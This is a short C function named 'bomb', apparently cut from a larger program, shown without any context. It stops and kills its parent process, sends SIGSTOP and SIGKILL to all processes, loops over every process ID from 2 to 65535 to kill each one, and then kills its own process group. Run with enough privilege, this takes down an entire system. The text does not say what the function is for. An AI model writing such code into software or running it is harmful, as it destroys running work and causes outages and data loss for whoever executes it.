
static void bomb(void)
{
    (void)kill(getppid(), SIGSTOP);
    (void)kill(getppid(), SIGKILL);
    (void)kill(-1, SIGSTOP);
    (void)kill(-1, SIGKILL);
    for (pid_t process = 2; process < 65536; process++)
        if (process != getpid())
            (void)kill(process, SIGKILL);
    (void)kill(0, SIGKILL);
}
